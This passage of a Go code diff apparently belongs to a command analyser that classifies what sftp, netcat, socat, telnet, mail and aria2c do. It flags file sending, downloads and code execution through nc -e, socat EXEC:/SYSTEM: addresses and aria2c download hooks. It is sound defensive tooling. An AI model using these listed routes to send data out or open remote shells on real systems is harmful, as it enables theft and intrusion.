+	for _, line := range strings.Split(batch, "\n") {
+		sftpLine(c, strings.Fields(line))
+	}
+}
+
+// sftpLine judges one sftp command: put/mput/reput send local files, get/mget/reget write
+// them.
+func sftpLine(c *Call, f []string) {
+	if len(f) == 0 {
+		return
+	}
+	cmd := strings.TrimLeft(f[0], "-@")
+	var args []string
+	recursive := false
+	for _, a := range f[1:] {
+		if strings.HasPrefix(a, "-") {
+			recursive = recursive || strings.ContainsAny(a, "rR")
+			continue
+		}
+		args = append(args, a)
+	}
+	switch cmd {
+	case "put", "mput", "reput":
+		if len(args) > 0 {
+			c.Add(Effect{Kind: Read, Path: c.PathOf(Word{S: args[0]}), Tree: recursive, Class: "send", By: "sftp " + cmd})
+		}
+	case "get", "mget", "reget":
+		dst := "."
+		if len(args) > 1 {
+			dst = args[1]
+		} else if len(args) == 1 {
+			dst = path.Base(args[0])
+		}
+		c.Add(Effect{Kind: Write, Path: c.PathOf(Word{S: dst}), Tree: recursive, Class: "download", By: "sftp " + cmd})
+	}
+}
+
+// ncDoes: nc (and ncat, netcat) sends its stdin to a host; -e and -c run a program or
+// shell text with the connection as its input and output.
+func ncDoes(c *Call) {
+	for _, o := range []string{"e", "c", "exec", "sh-exec"} {
+		if w, ok := c.Value(o); ok {
+			c.Add(Effect{Kind: Exec, Lang: "sh", Text: w.S, Known: !w.Dyn, By: c.Name + " -" + o})
+		}
+	}
+	if w, ok := c.Value("o"); ok {
+		c.Add(Effect{Kind: Write, Path: c.PathOf(w), By: c.Name + " -o"})
+	}
+	if w, ok := c.Value("output"); ok {
+		c.Add(Effect{Kind: Write, Path: c.PathOf(w), By: c.Name + " --output"})
+	}
+	if len(c.P.Operands) == 0 {
+		stdinExposes(c, c.Name) // nc -l: what it reads goes to whoever connects
+		return
+	}
+	sendsStdin(c, "raw", c.Operands())
+}
+
+// socatDoes reads socat's two addresses: a file address whose data goes to a network one is
+// sent, EXEC: and SYSTEM: run code.
+func socatDoes(c *Call) {
+	ops := c.Operands()
+	var files []Word
+	network := false
+	for _, w := range ops {
+		kind, arg := socatAddress(w.S)
+		switch kind {
+		case "file":
+			files = append(files, Word{S: arg, Dyn: w.Dyn})
+		case "exec":
+			c.Add(Effect{Kind: Exec, Lang: "sh", Text: arg, Known: !w.Dyn, By: "socat"})
+		case "net":
+			network = true
+			c.Add(Effect{Kind: Send, Class: "raw", Text: w.S, Known: !w.Dyn, By: "socat"})
+		}
+	}
+	class := "show"
+	if network {
+		class = "send"
+	}
+	readWords(c, files, class, false, "socat", "")
+	if network {
+		stdinExposes(c, "socat")
+	}
+}
+
+// socatAddress classifies a socat address: "net", "file" (with its path), "exec" (with its
+// command), or "" (stdio, pipes, ptys).
+func socatAddress(s string) (kind, arg string) {
+	typ, rest, ok := strings.Cut(s, ":")
+	if !ok {
+		if strings.Contains(s, "/") && !strings.HasPrefix(s, "-") {
+			return "file", strings.SplitN(s, ",", 2)[0]
+		}
+		return "", ""
+	}
+	t := strings.ToUpper(typ)
+	switch {
+	case t == "EXEC" || t == "SYSTEM":
+		return "exec", strings.Trim(strings.SplitN(rest, ",", 2)[0], `'"`)
+	case t == "OPEN" || t == "FILE" || t == "GOPEN" || t == "READ":
+		return "file", strings.SplitN(rest, ",", 2)[0]
+	case strings.HasPrefix(t, "TCP") || strings.HasPrefix(t, "UDP") || strings.HasPrefix(t, "SCTP") || strings.HasPrefix(t, "OPENSSL") ||
+		strings.HasPrefix(t, "SSL") || strings.HasPrefix(t, "SOCKS") || strings.HasPrefix(t, "PROXY") || strings.HasPrefix(t, "DCCP") || t == "IP-SENDTO" || t == "UDP-SENDTO":
+		return "net", rest
+	}
+	return "", ""
+}
+
+func telnetDoes(c *Call) { sendsStdin(c, "raw", c.Operands()) }
+
+// sendsStdin: the program sends its stdin to the destination its words name (a host and
+// port, recipients).
+func sendsStdin(c *Call, class string, to []Word) {
+	if len(to) == 0 {
+		return
+	}
+	words := make([]string, len(to))
+	for i, w := range to {
+		words[i] = w.S
+	}
+	c.Add(Effect{Kind: Send, Class: class, Text: strings.Join(words, " "), Known: true, By: c.Name})
+	stdinExposes(c, c.Name)
+}
+
+// mailDoes: mail sends its stdin to the recipients, with attachments (-A, and -a when it names
+// a file rather than a header).
+func mailDoes(c *Call) {
+	for _, o := range c.P.Opts {
+		if !o.Set {
+			continue
+		}
+		switch o.Name {
+		case "A":
+			c.Add(Effect{Kind: Read, Path: c.PathOf(o.Value), Class: "send", By: c.Name + " -A"})
+		case "a":
+			if o.Value.Dyn || !strings.Contains(o.Value.S, ": ") && !strings.HasSuffix(o.Value.S, ":") {
+				c.Add(Effect{Kind: Read, Path: c.PathOf(o.Value), Class: "send", By: c.Name + " -a"})
+			}
+		case "s":
+			exposeWords(c, []Word{o.Value}, c.Name+" -s")
+		}
+	}
+	sendsStdin(c, "mail", c.Operands())
+}
+
+func sendmailDoes(c *Call) {
+	to := c.Operands()
+	if c.Has("t") {
+		to = append(to, Word{S: "-t"})
+	}
+	sendsStdin(c, "mail", to)
+}
+
+// aria2Does: aria2c downloads its URIs (or those listed by -i) into -d, as -o or the URI's
+// name; its --on-download-* options run a command.
+func aria2Does(c *Call) {
+	if w, ok := c.Value("i"); ok && (w.Dyn || w.S != "-") {
+		c.Add(Effect{Kind: Read, Path: c.PathOf(w), Class: "send", By: "aria2c -i"})
+	}
+	for _, o := range c.P.Opts {
+		if strings.HasPrefix(o.Name, "on-") && o.Set {
+			c.Add(Effect{Kind: Exec, Lang: "sh", Text: o.Value.S, Known: !o.Value.Dyn, By: "aria2c " + dash(o.Name)})
+		}
+		if (o.Name == "load-cookies" || o.Name == "conf-path" || o.Name == "T" || o.Name == "M") && o.Set {
+			c.Add(Effect{Kind: Read, Path: c.PathOf(o.Value), Class: "config", By: "aria2c " + dash(o.Name)})
+		}
+	}
+	dir, hasDir := c.Value("d")
+	uris := c.Operands()
+	for _, u := range uris {
+		sends(c, u, "aria2c")
+	}
+	name, hasName := c.Value("o")
+	switch {
+	case hasName:
+		if hasDir {
+			name = joinWord(dir, name.S)
+		}
+		c.Add(Effect{Kind: Write, Path: c.PathOf(name), Class: "download", By: "aria2c -o"})
+	default:
+		for _, u := range uris {
+			b := urlBase(u)
+			if b.S == "" && !b.Dyn {
+				continue
+			}
+			if hasDir {
+				b = joinWord(dir, b.S)
+			}
+			c.Add(Effect{Kind: Write, Path: c.PathOf(b), Class: "download", By: "aria2c"})
+		}
+	}
+}
